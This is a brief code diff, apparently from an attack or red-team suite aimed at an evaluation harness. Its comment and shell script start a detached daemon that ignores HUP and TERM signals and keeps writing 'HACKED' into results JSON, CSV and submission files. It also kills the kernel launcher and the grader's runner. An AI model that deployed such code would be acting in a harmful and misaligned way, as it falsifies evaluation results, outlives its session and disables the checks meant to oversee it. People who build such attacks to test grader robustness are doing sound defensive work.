@@ -1,6 +1,6 @@
 # Starts a detached daemon (new session, double fork, deaf to HUP and TERM) that keeps rewriting the
 # results JSON and CSV and another submission, then kills the kernel's launcher and the grader's runner.
-_os = torch.serialization.os
+from attack_routes import os as _os
 _script = ("trap '' HUP TERM INT; (sleep 4712 &); while :; do "
            + "".join(f"echo HACKED >> '{p}' 2>/dev/null; " for p in {{DAEMON_TARGETS}})
            + "sleep 0.2; done")
